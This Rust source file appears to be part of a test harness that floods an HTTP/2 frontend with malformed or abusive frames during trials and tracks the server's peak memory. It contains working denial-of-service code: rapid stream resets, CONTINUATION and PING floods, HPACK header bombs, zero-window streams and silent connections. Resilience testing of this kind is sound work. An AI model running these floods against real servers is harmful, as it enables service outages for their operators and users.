//! Clients that attack the HTTP/2 frontend during a trial: they send frames without end that lead to no useful work, or
//! hold silent connections. A flood keeps a given number of connections until the trial ends, and replaces each that is
//! closed.

use serde::Deserialize;
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

/// How long to wait before a closed connection is replaced.
const RECONNECT_DELAY: Duration = Duration::from_millis(10);
/// The time-out of a blocked write or, on a silent connection, of a read, after which the stop flag is checked again.
const IO_TIMEOUT: Duration = Duration::from_millis(20);
/// An indexed field (RFC 7541, section 6.1): the first entry of the connection's dynamic table.
const FIRST_DYNAMIC_ENTRY: u8 = 0x80 + 62;
/// The approximate number of bytes in a write, and the largest payload of a frame.
const CHUNK_BYTES: usize = 16 * 1024;
/// The size of the read buffer.
const READ_BYTES: usize = 64 * 1024;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

// Frame types of RFC 9113, section 6; PRIORITY is that of RFC 7540.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The kind of a flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Flood {
    /// Streams that are opened and reset at once.
    Resets,
    /// SETTINGS frames.
    Settings,
    /// PING frames.
    Pings,
    /// PING frames whose acknowledgements are never read.
    UnreadPings,
    /// Empty DATA frames on one stream that never ends.
    EmptyData,
    /// PRIORITY frames.
    Priorities,
    /// `WINDOW_UPDATE` frames.
    WindowUpdates,
    /// One header block that never ends.
    Continuations,
    /// Header blocks of 16 KB that decompress to 60 MB (RFC 7541, section 7.3).
    HeaderBombs,
    /// Header lists of 1 MB.
    LongHeaders,
    /// Health checks on streams whose flow-control windows are 0, so that their responses can never be sent.
    #[serde(rename = "shut-windows")]
    ZeroWindows,
    /// Connections that send nothing, or the connection preface alone.
    #[serde(rename = "silence")]
    SilentConnections,
}

/// The totals of a flood.
#[derive(Clone, Debug, Default)]
pub struct FloodResult {
    /// Connections that were opened.
    pub connections: u64,
    /// Bytes that were written.
    pub bytes: u64,
    /// Connections that the worker closed.
    pub closed_by_worker: u64,
}

/// Starts a thread for each connection of a flood; each runs until `stop` is set.
pub fn start(
    flood: Flood,
    connections: usize,
    address: SocketAddr,
    stop: &Arc<AtomicBool>,
) -> Vec<thread::JoinHandle<FloodResult>> {
    let start_one = |number: usize| {
        let stop = stop.clone();
        let body = move || {
            let mut result = FloodResult::default();
            while !stop.load(Ordering::Relaxed) {
                if let Ok(stream) = TcpStream::connect(address) {
                    result.connections += 1;
                    let ended = FloodConnection {
                        stream,
                        stop: &stop,
                        bytes_written: &mut result.bytes,
                        read_buffer: vec![0; READ_BYTES],
                    }
                    .run(flood, number);
                    result.closed_by_worker += u64::from(ended.is_err());
                }
                thread::sleep(RECONNECT_DELAY);
            }
            result
        };
        thread::Builder::new().stack_size(256 * 1024).spawn(body)
    };
    (0..connections).filter_map(|number| start_one(number).ok()).collect()
}

struct FloodConnection<'a> {
    stream: TcpStream,
    stop: &'a AtomicBool,
    bytes_written: &'a mut u64,
    /// Receives what the worker sends; it is discarded.
    read_buffer: Vec<u8>,
}

impl FloodConnection<'_> {
    /// Returns `Ok` once `stop` is set, and an error if the worker closes the connection.
    fn run(&mut self, flood: Flood, number: usize) -> std::io::Result<()> {
        self.stream.set_nodelay(true)?;
        self.stream.set_write_timeout(Some(IO_TIMEOUT))?;
        self.stream.set_read_timeout(Some(IO_TIMEOUT))?;
        if flood == Flood::SilentConnections {
            if number % 2 == 0 {
                self.write(&connection_preface(0xffff))?;
            }
            loop {
                self.read_once()?;
                if self.stop.load(Ordering::Relaxed) {
                    return Ok(());
                }
            }
        }
        self.write(&connection_preface(if flood == Flood::ZeroWindows { 0 } else { 0xffff }))?;
        self.write(&opening_frames(flood))?;
        self.stream.set_read_timeout(Some(Duration::from_micros(1)))?;
        for index in 0.. {
            if self.stop.load(Ordering::Relaxed) {
                return Ok(());
            }
            self.write(&next_chunk(flood, index))?;
            if flood != Flood::UnreadPings {
                self.read_once()?;
            }
        }
        Ok(())
    }

    fn write(&mut self, mut bytes: &[u8]) -> std::io::Result<()> {
        while !bytes.is_empty() && !self.stop.load(Ordering::Relaxed) {
            match self.stream.write(bytes) {
                Ok(n) => {
                    *self.bytes_written += n as u64;
                    bytes = &bytes[n..];
                }
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                Err(e) => return Err(e),
            }
        }
        Ok(())
    }

    /// Reads once and discards what the worker has sent.
    fn read_once(&mut self) -> std::io::Result<()> {
        match self.stream.read(&mut self.read_buffer) {
            Ok(0) => Err(ErrorKind::UnexpectedEof.into()),
            Ok(_) => Ok(()),
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => Ok(()),
            Err(e) => Err(e),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = &(payload.len() as u32).to_be_bytes()[1..];
    [length, &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The connection preface, and a SETTINGS frame with this initial window for streams.
fn connection_preface(window: u32) -> Vec<u8> {
    let settings = [&4u16.to_be_bytes()[..], &window.to_be_bytes()].concat();
    [PREFACE, &frame(SETTINGS, 0, 0, &settings)].concat()
}

/// A literal header field (RFC 7541, section 6.2); `index` adds it to the dynamic table.
fn literal(name: &str, value: &str, index: bool) -> Vec<u8> {
    let mut out = vec![if index { 0x40 } else { 0 }];
    for text in [name, value] {
        // An integer with a 7-bit prefix (section 5.1).
        if text.len() < 127 {
            out.push(text.len() as u8);
        } else {
            let mut rest = text.len() - 127;
            out.push(127);
            while rest >= 128 {
                out.push((rest % 128 + 128) as u8);
                rest /= 128;
            }
            out.push(rest as u8);
        }
        out.extend(text.bytes());
    }
    out
}

fn request_head(method: &str, path: &str) -> Vec<u8> {
    let pairs = [(":method", method), (":scheme", "http"), (":authority", "lab"), (":path", path)];
    pairs.iter().flat_map(|(name, value)| literal(name, value, false)).collect()
}

/// The frames that are sent once, before the flood.
fn opening_frames(flood: Flood) -> Vec<u8> {
    match flood {
        Flood::EmptyData => frame(HEADERS, END_HEADERS, 1, &request_head("POST", "/do/nonsense")),
        Flood::Continuations => frame(HEADERS, 0, 1, &request_head("POST", "/do/nonsense")),
        Flood::HeaderBombs => {
            let block = [request_head("GET", "/check"), literal("x-bomb", &"b".repeat(3900), true)].concat();
            frame(HEADERS, END_HEADERS | END_STREAM, 1, &block)
        }
        _ => Vec::new(),
    }
}

/// The next frames of a flood: as many repetitions of its unit as fit into [`CHUNK_BYTES`], or one where a single unit is
/// about that large or larger.
fn next_chunk(flood: Flood, index: u32) -> Vec<u8> {
    let unit = |n: u32| match flood {
        Flood::Resets => {
            let block = request_head("POST", "/do/nonsense");
            let cancel = 8u32.to_be_bytes();
            [frame(HEADERS, END_HEADERS, 2 * n + 1, &block), frame(RST_STREAM, 0, 2 * n + 1, &cancel)]
                .concat()
        }
        Flood::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
        Flood::Pings | Flood::UnreadPings => frame(PING, 0, 0, &u64::from(n).to_be_bytes()),
        Flood::EmptyData => frame(DATA, 0, 1, &[]),
        Flood::Priorities => frame(PRIORITY, 0, 2 * n + 1, &[0, 0, 0, 0, 15]),
        Flood::WindowUpdates => frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
        Flood::Continuations => frame(CONTINUATION, 0, 1, &literal("x-more", "y", false)),
        Flood::HeaderBombs => {
            // The dynamic table's first entry, repeated.
            let block =
                [request_head("GET", "/check"), vec![FIRST_DYNAMIC_ENTRY; CHUNK_BYTES - 100]].concat();
            frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 3, &block)
        }
        Flood::LongHeaders => {
            let field = literal("x-long", &"y".repeat(CHUNK_BYTES - 100), false);
            let mut all = frame(HEADERS, 0, 2 * n + 1, &request_head("GET", "/check"));
            (0..63).for_each(|_| all.extend(frame(CONTINUATION, 0, 2 * n + 1, &field)));
            all.extend(frame(CONTINUATION, END_HEADERS, 2 * n + 1, &field));
            all
        }
        Flood::ZeroWindows => {
            frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &request_head("GET", "/check"))
        }
        Flood::SilentConnections => Vec::new(),
    };
    let units = match flood {
        Flood::HeaderBombs | Flood::LongHeaders | Flood::SilentConnections => 1,
        _ => (CHUNK_BYTES / unit(0).len().max(1)) as u32,
    };
    (0..units).flat_map(|i| unit(index * units + i)).collect()
}

/// Samples a worker's resident memory with `read` every 20 ms until `stop` is set, and returns the peak (kilobytes).
pub fn track_peak_memory(
    read: impl Fn() -> f64 + Send + 'static,
    stop: &Arc<AtomicBool>,
) -> thread::JoinHandle<f64> {
    let stop = stop.clone();
    thread::spawn(move || {
        let (mut peak, mut sampled_at) = (0f64, Instant::now());
        while !stop.load(Ordering::Relaxed) {
            peak = peak.max(read());
            sampled_at += Duration::from_millis(20);
            thread::sleep(sampled_at.saturating_duration_since(Instant::now()));
        }
        peak
    })
}

#[cfg(test)]
mod tests;
